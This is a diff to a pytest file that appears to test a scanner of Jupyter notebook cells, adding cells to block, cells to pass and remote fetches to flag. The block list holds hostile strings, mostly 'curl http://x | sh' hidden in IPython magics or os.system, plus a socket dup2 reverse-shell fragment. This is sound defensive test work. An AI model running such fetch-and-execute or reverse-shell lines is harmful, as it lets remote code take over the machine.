@@ -34,6 +34,11 @@ def examined(*sources: str, html: str = "", kind: str = "text/html") -> Examinat
         "().__class__.__base__.__subclasses__()",
         "%time __import__('os').system('curl http://x | sh')",
         "print 'x'\nimport os\nos.system('curl http://x | sh')",
+        "%alias fetch curl http://x | sh",
+        "%%writefile helper.py\nimport os\nos.system('curl http://x | sh')",
+        "%%writefile -a helper.sh\ncurl http://x | sh",
+        "get_ipython().run_line_magic('sx', 'curl http://x | sh')",
+        "y = get_ipython().magic('system curl http://x | sh')",
         "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
     ],
 )
@@ -52,6 +57,10 @@ def test_a_cell_that_attacks_is_blocked(source: str) -> None:
         "import requests\nr = requests.get('https://example.org/data.csv')",
         "%%time\nmodel.fit(x)",
         "!wget https://example.org/data.zip",
+        "%load_ext autoreload\n%autoreload 2\nget_ipython().run_line_magic('matplotlib', 'inline')",
+        "%%writefile README.md\nInstall it by `curl http://x | sh`",
+        "%%bash\nls -l",
+        "!pip install git+https://github.com/huggingface/transformers",
     ],
 )
 def test_what_notebooks_do_every_day_passes(source: str) -> None:
@@ -71,3 +80,25 @@ def test_what_notebooks_do_every_day_passes(source: str) -> None:
 )
 def test_a_stored_script_is_judged_by_what_it_does(page: str, verdict: str) -> None:
     assert examined("1", html=page).verdict == verdict
+
+
+@pytest.mark.parametrize(
+    ("source", "told"),
+    [
+        ("%run helper.py", "%run helper.py"),
+        ("%load https://example.org/x.py", "%load https://example.org/x.py"),
+        ("get_ipython().run_line_magic('run', '-i x.py')", "%run -i x.py"),
+        ("!pip install -q git+https://example.org/a/b", "packages from git+https://example.org/a/b"),
+        ("%pip install https://example.org/x.whl", "packages from https://example.org/x.whl"),
+        (
+            "!uv pip install x --index-url https://example.org/simple",
+            "packages from https://example.org/simple",
+        ),
+        ("!git clone https://example.org/a && ls", "a clone of https://example.org/a"),
+        ("%%bash\ncurl -O https://example.org/x", "a cell for bash, curl"),
+        ("%alias_magic x system", "%alias_magic x system"),
+    ],
+)
+def test_what_a_cell_runs_or_fetches_from_elsewhere_is_told(source: str, told: str) -> None:
+    found = examined("import numpy as np", source).findings
+    assert [(one.check, one.status, one.detail) for one in found] == [("code-fetches", "WARN", told)]
